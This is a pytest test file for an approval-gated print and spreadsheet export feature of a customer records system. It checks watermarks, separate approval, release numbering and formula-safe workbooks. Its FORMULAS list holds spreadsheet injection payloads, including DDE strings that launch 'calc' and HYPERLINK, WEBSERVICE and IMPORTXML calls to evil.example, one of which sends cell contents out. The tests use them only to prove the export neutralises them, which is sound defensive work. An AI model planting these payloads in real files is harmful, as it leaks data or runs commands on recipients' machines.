"""What leaves the house: asked for, approved by somebody else, numbered, marked, in a register (T20), and harmless to open (T30)."""

from __future__ import annotations

import io
import os
import re
import shutil
import subprocess
import tempfile
import threading
import zipfile
from pathlib import Path

import openpyxl
import pytest
import sqlalchemy as sa

from server.services import clock
from server.services.reading import lookups
from server.services.releases import paper, requests, sheets
from server.storage.database import reading, writing
from server.storage.people_tables import lookup, release
from sync_protocol.fields import FieldClass, Kind, Sensitivity
from sync_protocol.records import check_values, record_type
from tests.console.browser import Person, shown
from tests.console.reading import ask_print, manager

RACES = int(os.environ.get("ROUNDBOOK_RACES", "20"))  # `make worlds`: 2,000

DAY = 86_400_000
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    "%0A=1+1",
    "|calc",
    "＝1+1",
    '=DDE("cmd";"/C calc";"x")',
    "'=1+1",
    '"=1+1',
    "{=1+1}",
    '="1"&"1"',
    "@A1",
    "-2+3+cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "+A1",
    "=A1",
    "=(1)",
    "0x1",
    "1e400",
    "TRUE",
    "2026-01-01",
]


def test_a_print_is_approved_by_somebody_else_and_carries_number_name_and_day(own_scene):
    li, zhao = Person(own_scene.office.app, "li"), manager(own_scene)
    path = ask_print(li, own_scene.ids["star"])
    assert li.get(f"{path}/page").status_code == li.get(f"{path}/document").status_code == 404

    zhao.post(f"{path}/approve", {"comment": "For the bank alone"})

    page = li.page(f"{path}/page")
    today = clock_day()
    assert shown(page).count(f"Release 1 · Li · {today}") >= 6
    assert "Lucky Star Mart" in page and "First Bank" in page and "Confidential" in page
    assert "6222" not in page
    document = li.get(f"{path}/document")
    assert document.mimetype == "application/pdf" and document.data.startswith(b"%PDF-")
    assert "attachment" in document.headers["Content-Disposition"]
    register = shown(zhao.page("/releases"))
    assert "Lucky Star Mart" in register and "First Bank" in register and "Zhao" in register


def clock_day() -> str:
    from datetime import UTC, datetime

    return datetime.fromtimestamp(clock.now_ms() / 1000, UTC).date().isoformat()


@pytest.mark.skipif(not shutil.which("pdftotext"), reason="needs pdftotext")
def test_every_page_of_the_pdf_has_the_mark_and_its_number(tmp_path):
    facts = [(f"Field {n}", f"value {n} 福星便利店") for n in range(90)]
    sheet = paper.Sheet(
        "Lucky Star 福星", [("Number", "7")], [("Basic", facts)], "Release 7 · Li · 2026-11-22", "Maple"
    )

    (tmp_path / "a.pdf").write_bytes(paper.draw(sheet))

    text = subprocess.run(["pdftotext", "-layout", tmp_path / "a.pdf", "-"], capture_output=True, text=True).stdout
    pages = text.rstrip("\f").split("\f")
    assert len(pages) >= 3 and "福星便利店" in text
    for n, page in enumerate(pages, 1):
        assert f"{n}/{len(pages)}" in page
    raw = subprocess.run(["pdftotext", "-raw", tmp_path / "a.pdf", "-"], capture_output=True, text=True).stdout
    assert sum(line.count("R") for line in raw.split("\f")[1].splitlines()) >= 1


def test_nobody_approves_his_own_release(own_scene):
    zhao, other = manager(own_scene), manager(own_scene, "qian")
    path = ask_print(zhao, own_scene.ids["star"])

    zhao.post(f"{path}/approve")
    assert "Nobody approves his own" in shown(zhao.page(path)) and zhao.get(f"{path}/page").status_code == 404
    other.post(f"{path}/approve")

    assert zhao.get(f"{path}/page").status_code == 200
    assert other.get(f"{path}/page").status_code == 404


def test_a_declined_a_withdrawn_and_an_old_release_open_nothing(own_scene, monkeypatch):
    li, zhao = Person(own_scene.office.app, "li"), manager(own_scene)
    star = own_scene.ids["star"]
    declined, withdrawn, old = ask_print(li, star), ask_print(li, star), ask_print(li, star)

    zhao.post(f"{declined}/decline", {"comment": "Not outside the house"})
    li.post(f"{withdrawn}/withdraw")
    zhao.post(f"{withdrawn}/approve")
    zhao.post(f"{old}/approve")
    with own_scene.office.app.app_context(), writing() as connection:
        connection.execute(sa.update(release).where(release.c.number == 1).values(until=clock.now_ms()))

    for path in (declined, withdrawn, old):
        assert li.get(f"{path}/page").status_code == 404, path
    assert "Not outside the house" in shown(li.page(declined))


def test_who_lost_the_book_takes_out_no_print_that_was_approved_before(own_scene):
    from server.services import books, users

    li, zhao = Person(own_scene.office.app, "li"), manager(own_scene)
    path = ask_print(li, own_scene.ids["star"])
    zhao.post(f"{path}/approve")
    assert li.get(f"{path}/page").status_code == 200

    with own_scene.office.app.app_context():
        books.assign_seat(own_scene.ids["north"], "maintainer", own_scene.office.users["wang"], users.SYSTEM)

    assert li.get(f"{path}/page").status_code == li.get(f"{path}/document").status_code == 404


def test_the_paper_comes_back_and_the_register_says_so_and_which_is_overdue(own_scene):
    li, zhao = Person(own_scene.office.app, "li"), manager(own_scene)
    back, late = (ask_print(li, own_scene.ids["star"], return_by=day) for day in ("2099-01-01", "2020-01-01"))
    for path in (back, late):
        zhao.post(f"{path}/approve")

    zhao.post(f"{back}/returned")

    register = shown(zhao.page("/releases"))
    assert "came back" in register and "overdue" in register


def test_numbers_of_releases_have_no_gap_and_no_double_when_many_are_approved_at_once(own_scene):
    app, star = own_scene.office.app, own_scene.ids["star"]
    li = Person(app, "li")
    ids = [ask_print(li, star).rsplit("/", 1)[1] for _ in range(12)]
    manager(own_scene), manager(own_scene, "qian")
    deciders = [own_scene.office.users[login] for login in ("zhao", "qian")]
    scope = [own_scene.ids["north"]]
    refused = []

    def approve(decider: str) -> None:
        with app.app_context():
            for release_id in ids:
                try:
                    requests.approve(release_id, decider, scope)
                except requests.ReleaseRefused:
                    refused.append(release_id)

    together([lambda d=d: approve(d) for d in deciders])

    with app.app_context(), reading() as connection:
        numbers = sorted(connection.scalars(sa.select(release.c.number)))
    assert numbers == list(range(1, 13)) and sorted(refused) == sorted(ids)


def together(acts) -> None:
    """Begin all of these at one moment, and wait for them."""
    gate = threading.Barrier(len(acts))

    def run(act) -> None:
        gate.wait(10)
        act()

    threads = [threading.Thread(target=run, args=(act,)) for act in acts]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)


def test_of_a_grant_and_a_withdrawal_at_one_moment_one_counts_and_what_is_void_is_never_read(own_scene):
    app, scope = own_scene.office.app, [own_scene.ids["north"], own_scene.ids["south"]]
    zhao = manager(own_scene)
    asker, decider = own_scene.office.users["wang"], own_scene.office.users["zhao"]
    outcomes = set()

    for _ in range(RACES):
        with app.app_context():
            lookup_id = lookups.ask(asker, own_scene.ids["star"], "Same owner in my round")
        together(
            [
                lambda i=lookup_id: attempt(app, lambda: lookups.grant(i, decider, scope, days=1, wanted=["outside"])),
                lambda i=lookup_id: attempt(app, lambda: lookups.withdraw(i, asker)),
            ]
        )
        with app.app_context():
            found = lookups.by_id(lookup_id, asker, scope)
            copy = lookups.open_copy(found, asker)
            assert (found.state, copy is not None) in (("granted", True), ("withdrawn", False)), found
            outcomes.add(found.state)
            if found.state == "granted":
                lookups.end(lookup_id, decider, scope)
                again = lookups.by_id(lookup_id, asker, scope)
                assert lookups.open_copy(again, asker) is None
                with reading() as connection:
                    assert connection.scalar(sa.select(lookup.c.ended_at).where(lookup.c.id == lookup_id))
    assert outcomes
    assert zhao.get("/reading").status_code == 200


def attempt(app, act) -> None:
    with app.app_context():
        try:
            act()
        except lookups.LookupRefused:
            return


def test_an_export_is_a_release_too_and_holds_what_its_asker_may_read(own_scene):
    chen, zhao = Person(own_scene.office.app, "chen"), manager(own_scene)
    answer = chen.post("/releases/export?q=lucky", {"reason": "Yearly survey", "recipient": "Statistics office"})
    path = answer.headers["Location"]
    assert chen.get(f"{path}/workbook").status_code == 404

    zhao.post(f"{path}/approve")

    book = openpyxl.load_workbook(io.BytesIO(chen.get(f"{path}/workbook").data))
    rows = list(book.worksheets[0].iter_rows(values_only=True))
    assert len(rows) == 2 and any("Lucky Star" in str(value) for value in rows[1])
    assert not any("6222" in str(value) or "12 Elm" in str(value) for row in rows for value in row)
    assert "Release 1 · Chen" in str(book.worksheets[1]["B1"].value)
    assert zhao.get(f"{path}/workbook").status_code == 404


def test_no_cell_of_a_workbook_is_a_formula_whatever_was_typed(tmp_path):
    data = sheets.workbook([("=1+1", ["=heading", *("h" * 3)], [[text, text, "x", 3] for text in FORMULAS])])

    book = openpyxl.load_workbook(io.BytesIO(data))
    (page,) = book.worksheets
    for row, text in zip(page.iter_rows(min_row=2), FORMULAS, strict=True):
        assert [cell.data_type for cell in row] == ["s", "s", "s", "n"], text
        assert row[0].value.strip("\r\n\t ") == text.strip("\r\n\t ") or row[0].value == text
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        for name in parts.namelist():
            xml = parts.read(name).decode()
            assert "<f>" not in xml and "<f " not in xml, name
            assert "externalLink" not in name and "hyperlink" not in xml.lower().replace("=hyperlink", ""), name


def test_nothing_of_a_workbook_lies_in_the_folder_for_temporary_files_while_it_is_made(tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    seen = []

    def rows():
        for n in range(3):
            seen.extend(tmp_path.iterdir())
            yield [f"row {n}", n]

    data = sheets.workbook([("One", ["Text", "Number"], rows()), ("One", ["Text"], [["福星"]])])

    book = openpyxl.load_workbook(io.BytesIO(data))
    assert seen == [] and list(tmp_path.iterdir()) == []
    assert [[cell.value for cell in row] for row in book.worksheets[0].iter_rows()][3] == ["row 2", 2]
    assert len(book.worksheets) == 2 and book.worksheets[1]["A2"].value == "福星"
    assert book.worksheets[0].freeze_panes == "A2" and book.worksheets[0]["A1"].font.bold
    assert book.worksheets[0].column_dimensions["A"].width == 28


def test_formulas_in_every_text_field_of_a_customer_come_out_of_the_export_as_texts(own_scene):
    office = own_scene.office
    for n, text in enumerate(FORMULAS):
        if text.isprintable():
            office.customer("north", text, customer_code=f"F{n}", address=text, contact_person=text)
    chen, zhao = Person(office.app, "chen"), manager(own_scene)
    answer = chen.post("/releases/export", {"reason": "=1+1 for the survey", "recipient": "=1+1"})
    path = answer.headers["Location"]
    zhao.post(f"{path}/approve")

    book = openpyxl.load_workbook(io.BytesIO(chen.get(f"{path}/workbook").data))

    texts = set()
    for page in book.worksheets:
        for row in page.iter_rows():
            for cell in row:
                assert cell.data_type != "f" and cell.hyperlink is None
                texts.add(cell.value)
    assert {text for text in FORMULAS if text.isprintable() and text == text.strip()} <= texts


def test_every_column_of_the_export_holds_each_of_the_formulas_as_the_text_that_was_typed(own_scene):
    """Each customer has one of them in every field that takes it; a cell is that text, of type text, and nothing in the file is a formula or leads out of it."""
    office, typed = own_scene.office, {}
    specs = record_type("customer").specs()
    texts = [name for name, spec in specs.items() if spec.kind in (Kind.TEXT, Kind.NOTE) and name != "customer_code"]
    texts = [name for name in texts if specs[name].klass is not FieldClass.SYSTEM]
    for n, text in enumerate(FORMULAS):
        fields = {name: text for name in texts if not check_values("customer", {name: text}, creating=False)}
        if "store_name" in fields:
            office.customer("north", fields.pop("store_name"), customer_code=f"F{n}", **fields)
            typed[f"F{n}"] = text
    zhao = manager(own_scene)
    path = Person(office.app, "chen").post("/releases/export", {"reason": "For the survey", "recipient": "The bank"})
    path = path.headers["Location"]
    zhao.post(f"{path}/approve")

    data = Person(office.app, "chen").get(f"{path}/workbook").data

    head, *rows = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0].iter_rows()
    code = next(n for n, cell in enumerate(head) if cell.value == str(specs["customer_code"].labels.en))
    open_texts = {str(specs[name].labels.en) for name in texts if specs[name].sensitivity is Sensitivity.OPEN}
    seen: dict[str, set[str]] = {}
    for row in rows:
        for cell, heading in zip(row, head, strict=True):
            assert cell.data_type != "f" and cell.hyperlink is None
            if row[code].value in typed and str(cell.value).strip() == typed[row[code].value].strip():
                assert cell.data_type == "s"
                assert cell.quotePrefix or not cell.value.startswith(sheets.FORMULA_BEGINS), cell.value
                seen.setdefault(heading.value, set()).add(row[code].value)
    columns = open_texts & {cell.value for cell in head}
    assert len(typed) == len(FORMULAS) == 30 and columns >= {"Store name", "Address", "Contact person"}
    assert {name: set(typed) - seen.get(name, set()) for name in columns} == dict.fromkeys(columns, set())
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        for part in parts.namelist():
            assert not re.search(r"<f[ >/]", parts.read(part).decode()) and "external" not in part.lower(), part


def test_a_workbook_is_written_in_two_places_alone_whose_cells_are_all_marked_as_texts():
    """What leaves, and what an import gives back: each has its test of formulas (here, and in test_refused_files)."""
    root = Path(sheets.__file__).parents[2]
    writing_one = re.compile(r"\bWorkbook\(|StreamedBook\(\)|csv\.writer|\bDictWriter\(")

    found = {
        str(path.relative_to(root))
        for part in (root, root.parent / "workers")
        for path in part.rglob("*.py")
        if writing_one.search(path.read_text(encoding="utf-8")) and path.name != "streamed.py"
    }

    assert found == {"services/releases/sheets.py", "services/importing/refused.py"}
